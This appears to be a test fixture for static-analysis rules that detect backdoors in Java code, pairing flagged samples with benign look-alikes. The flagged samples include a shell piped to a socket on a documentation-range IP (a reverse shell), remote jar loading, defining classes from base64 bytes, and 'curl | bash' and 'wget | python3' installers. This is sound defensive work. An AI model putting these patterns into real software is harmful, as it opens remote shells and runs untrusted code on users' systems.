class Maintenance {
  void open() throws Exception {
    // ruleid: java.backdoor.reverse-shell
    Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
    Socket line = new Socket("203.0.113.7", 443);
    copy(line.getInputStream(), shell.getOutputStream());
  }

  void other() throws Exception {
    Socket line = new Socket("203.0.113.7", 443);
    // ruleid: java.backdoor.reverse-shell
    Process shell = Runtime.getRuntime().exec("cmd.exe");
  }

  void local() throws Exception {
    // ok: java.backdoor.reverse-shell
    new ProcessBuilder("bash", "-c", "sync").start();
  }

  void connect() throws Exception {
    // ok: java.backdoor.reverse-shell
    new ProcessBuilder("ping", "-c1", "db.example.com").start();
    new Socket("db.example.com", 5432);
  }

  void classes(byte[] given, ClassLoader parent) throws Exception {
    // ruleid: java.backdoor.foreign-class
    new URLClassLoader(new URL[] {new URL("http://tools.example.com/run.jar")}, parent);
    byte[] hidden = Base64.getDecoder().decode(TEXT);
    // ruleid: java.backdoor.foreign-class
    defineClass("Run", hidden, 0, hidden.length);
    // ruleid: java.backdoor.foreign-class
    this.defineClass("Run", hidden, 0, hidden.length);
    // ok: java.backdoor.foreign-class
    new URLClassLoader(new URL[] {new URL("file:plugins/report.jar")}, parent);
    // ok: java.backdoor.foreign-class
    this.defineClass("Run", given, 0, given.length);
  }

  void install() throws Exception {
    // ruleid: java.backdoor.piped-installer
    new ProcessBuilder("sh", "-c", "curl -s https://tools.example.com/run.sh | bash").start();
    // ruleid: java.backdoor.piped-installer
    Runtime.getRuntime().exec(new String[] {"bash", "-c", "wget -qO- https://tools.example.com/run.py | python3"});
    // ok: java.backdoor.piped-installer
    new ProcessBuilder("sh", "-c", "curl -s https://tools.example.com/news.txt | head -1").start();
    // ok: java.backdoor.piped-installer
    new ProcessBuilder("sh", "-c", "cat run.sh | bash").start();
  }
}
